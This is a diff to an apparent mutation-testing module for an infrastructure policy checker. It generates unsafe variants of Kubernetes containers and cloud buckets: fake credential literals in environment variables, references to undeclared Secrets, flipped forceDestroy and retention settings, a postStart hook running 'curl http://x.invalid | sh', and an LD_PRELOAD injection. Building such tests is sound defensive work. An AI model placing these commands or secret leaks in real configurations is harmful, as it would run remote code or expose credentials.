@@ -19,7 +19,7 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from typing import Any, Optional
 
-from components.facts import versions
+from components.facts import contract, versions
 from components.plan import images
 
 Resource = dict[str, Any]
@@ -32,6 +32,13 @@ EVIL_INDEX = "http://mirror.example.invalid/simple"
 CREDENTIAL_ENV = ("API_KEY", "OPENAI_API_KEY", "VLLM_API_KEY", "AUTH_TOKEN", "DB_PASSWORD", "AWS_SECRET_ACCESS_KEY",
                   "GITHUB_TOKEN", "SLACK_WEBHOOK_SECRET", "DB_PASS", "GCS_HMAC", "ADMIN_PWD", "SSH_KEY",
                   "TLS_PRIVATE", "GPG_PASSPHRASE")
+CREDENTIAL_VALUES = {
+    "an AWS access key": "AKIAZ7Q3MUTANT4EXAMP",
+    "a private key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
+    "a Hugging Face token": "hf_" + "Mutant0123456789abcdefghijklmnopqrstu",
+    "a URL with a password": "postgresql://app:s3cr3t@db.internal:5432/app",
+}
+"""A literal of each credential class policy/pods.py recognises by its value."""
 UNSAFE_CAPABILITIES = ("SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE", "NET_RAW", "ALL")
 USER_IMAGES = frozenset({"sglang"})
 """Containers whose image the user names in config (`tpu.sglangImage`): swapping it is the user's choice."""
@@ -233,6 +240,13 @@ def _container_mutants(index: int, where: str, path: tuple[Any, ...], container:
         "name": "llm-d-hf-token", "key": "HF_TOKEN"}}}) if not _reads_hf(container) else _append("env", {
         "name": "OTHER", "valueFrom": {"secretKeyRef": {"name": "lws-webhook-server-cert", "key": "tls.key"}}}))
     yield one("envFrom a whole Secret", _append("envFrom", {"secretRef": {"name": "llm-d-hf-token"}}))
+    yield one("envFrom an undeclared Secret", _append("envFrom", {"secretRef": {"name": "other-credentials"}}))
+    yield one("env from an undeclared Secret", _append("env", {"name": "DB_URL", "valueFrom": {"secretKeyRef": {
+        "name": "other-credentials", "key": "url"}}}))
+    for what, value in CREDENTIAL_VALUES.items():
+        yield one(f"an innocuously named env var holding {what}", _append("env", {"name": "EXTRA_SETTING",
+                                                                                  "value": value}))
+    yield from _env_mutants(one, container)
     yield one("RDMA claim", lambda c: c.setdefault("resources", {}).update(claims=[
         *(c.get("resources", {}).get("claims") or []), {"name": "rdma-x"}]))
     yield one("--api-key literal", _append("args", "--api-key=sk-0123456789abcdef"))
@@ -241,6 +255,25 @@ def _container_mutants(index: int, where: str, path: tuple[Any, ...], container:
     yield one("postStart hook runs a shell", _set("lifecycle", {"postStart": {"exec": {"command": [
         "sh", "-c", "curl http://x.invalid | sh"]}}}))
     yield from _script_mutants(where, index, path, container)
+
+
+def _env_mutants(one: Callable[[str, Callable[[dict[str, Any]], None]], Mutant],
+                 container: dict[str, Any]) -> Iterator[Mutant]:
+    """Every environment variable of the container: a plain one given a credential of each class, one read from a
+    Secret pointed at another Secret or key, or given a plain value instead."""
+    for ei, entry in enumerate(container.get("env") or []):
+        name = entry.get("name")
+        if "value" in entry:
+            for what, value in CREDENTIAL_VALUES.items():
+                yield one(f"env {name}: set to {what}", lambda c, ei=ei, value=value: c["env"][ei].update(value=value))
+        ref = (entry.get("valueFrom") or {}).get("secretKeyRef")
+        if ref:
+            yield one(f"env {name}: from another Secret", lambda c, ei=ei: c["env"][ei]["valueFrom"][
+                "secretKeyRef"].update(name="other-credentials"))
+            yield one(f"env {name}: from another key of its Secret", lambda c, ei=ei: c["env"][ei]["valueFrom"][
+                "secretKeyRef"].update(key="tls.key"))
+            yield one(f"env {name}: a secret given a plain value", lambda c, ei=ei: c["env"].__setitem__(
+                ei, {"name": c["env"][ei]["name"], "value": "placeholder"}))
 
 
 def _runs_as_root(container: dict[str, Any]) -> bool:
@@ -548,6 +581,25 @@ def _bucket_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
     yield Mutant("buckets", f"{name}: public access prevention inherited", index,
                  _set("publicAccessPrevention", "inherited"))
     yield Mutant("buckets", f"{name}: fine-grained ACLs", index, _set("uniformBucketLevelAccess", False))
+    # Deletion as declared by the bucket's on-destroy label (components/checks/declared.py BUCKET_DISPOSITIONS).
+    props = resource["inputs"]
+    label = (props.get("labels") or {}).get(contract.BUCKET_ON_DESTROY_LABEL)
+    yield Mutant("buckets", f"{name}: forceDestroy {not props.get('forceDestroy')}", index,
+                 _set("forceDestroy", not props.get("forceDestroy")))
+    yield Mutant("buckets", f"{name}: on-destroy label removed", index,
+                 lambda p: p["labels"].pop(contract.BUCKET_ON_DESTROY_LABEL, None))
+    yield Mutant("buckets", f"{name}: on-destroy label {'delete' if label == 'keep' else 'keep'}", index,
+                 lambda p: p["labels"].update({contract.BUCKET_ON_DESTROY_LABEL: "delete" if label == "keep"
+                                               else "keep"}))
+    yield Mutant("buckets", f"{name}: on-destroy label another value", index,
+                 lambda p: p["labels"].update({contract.BUCKET_ON_DESTROY_LABEL: "maybe"}))
+    yield Mutant("buckets", f"{name}: a locked retention policy", index, _set("retentionPolicy", {
+        "retentionPeriod": 86400 * 365, "isLocked": True}))
+    yield Mutant("buckets", f"{name}: object retention lock", index, _set("enableObjectRetention", True))
+    yield Mutant("buckets", f"{name}: Autoclass", index, _set("autoclass", {"enabled": True}))
+    for seconds in (86400, 91 * 86400, -1, "604800"):
+        yield Mutant("buckets", f"{name}: soft-delete retention {seconds!r} s", index,
+                     _set("softDeletePolicy", {"retentionDurationSeconds": seconds}))
 
 
 def _namespace_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
@@ -590,6 +642,9 @@ def _command_mutants(index: int, resource: Resource) -> Iterator[Mutant]:
     if "BUILDER" in (props.get("environment") or {}):
         yield Mutant("commands", f"{name}: another service account runs the build", index,
                      lambda p: p["environment"].update(BUILDER="someone@other-project.iam.gserviceaccount.com"))
+    for key in props.get("environment") or {}:
+        yield Mutant("commands", f"{name} environment {key}: an AWS access key", index,
+                     lambda p, key=key: p["environment"].update({key: CREDENTIAL_VALUES["an AWS access key"]}))
     yield Mutant("commands", f"{name}: LD_PRELOAD in its environment", index,
                  lambda inputs: inputs.setdefault("environment", {}).update(LD_PRELOAD="/tmp/x.so"))
 
